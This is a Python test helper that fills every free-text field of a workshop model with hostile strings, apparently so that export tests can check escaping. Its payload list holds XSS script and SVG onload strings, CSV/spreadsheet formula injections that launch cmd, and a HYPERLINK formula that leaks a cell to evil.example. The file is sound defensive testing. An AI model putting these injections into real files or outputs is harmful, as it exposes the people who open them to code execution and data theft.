"""Hostile text typed into a workshop: markup, formulas, quotes, scripts of every kind.

``fill_every_text_field`` puts one of these into each free-text field of a workshop,
so an export test sees every field carry a payload.
"""

from __future__ import annotations

from itertools import cycle
from typing import Any

from pydantic import BaseModel

from cjm_widgets import Workshop
from cjm_widgets.model import Feeling

PAYLOADS = (
    '<script>alert("handout")</script>',
    "]]><svg onload=alert(1)><![CDATA[",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tstarts with a tab",
    "'=already guarded by hand",
    "&amp; &lt;b&gt; \"double\" 'single' </title></text>",
    "a: b; c # d %% e",
    "{{ jinja }} {% raw %} ${template}",
    "emoji 😀 Кириллица 漢字 عربى",
    "two\nlines",
)
"""Each is valid workshop text: refused characters (NUL, ESC...) are tested on their own."""

LIST_PAYLOADS = tuple(p for p in PAYLOADS if not p[0].isspace() and "\n" not in p)
"""List items are written one per line and trimmed on the way back: no newline, no edge space."""

REFERENCE_FIELDS = {
    "id", "persona", "stage", "channel", "touchpoint", "touchpoints", "language", "timezone",
    "idea", "nudge", "after", "until", "quiet_hours", "only_if_event", "unless_event",
}  # fmt: skip
"""Fields that hold an id, a code or an event name rather than free text."""
REFERENCE_LISTS = {"touchpoints", "pain_points"}


def _is_text(model: BaseModel, name: str) -> bool:
    annotation = str(type(model).model_fields[name].annotation)
    return "Literal" not in annotation and name not in REFERENCE_FIELDS


def _is_text_list(model: BaseModel, name: str) -> bool:
    annotation = str(type(model).model_fields[name].annotation)
    return annotation.startswith("list[typing.Annotated[str") and name not in REFERENCE_LISTS


def fill_every_text_field(ws: Workshop) -> int:
    """Put a payload into every free-text field and text-list item; returns how many."""
    texts = cycle(PAYLOADS)
    items = cycle(LIST_PAYLOADS)
    filled = 0
    pending: list[BaseModel] = [ws]
    while pending:
        model = pending.pop()
        for name in type(model).model_fields:
            value: Any = getattr(model, name)
            if isinstance(value, BaseModel):
                pending.append(value)
            elif isinstance(value, list) and value and isinstance(value[0], BaseModel):
                pending.extend(value)
            elif isinstance(value, str) and _is_text(model, name):
                # a feeling's text is an item of a list column in frames and spreadsheets
                setattr(model, name, next(items if isinstance(model, Feeling) else texts))
                filled += 1
            elif isinstance(value, list) and _is_text_list(model, name):
                setattr(model, name, [next(items) for _ in value] or [next(items)])
                filled += max(len(value), 1)
    ws.check()
    return filled
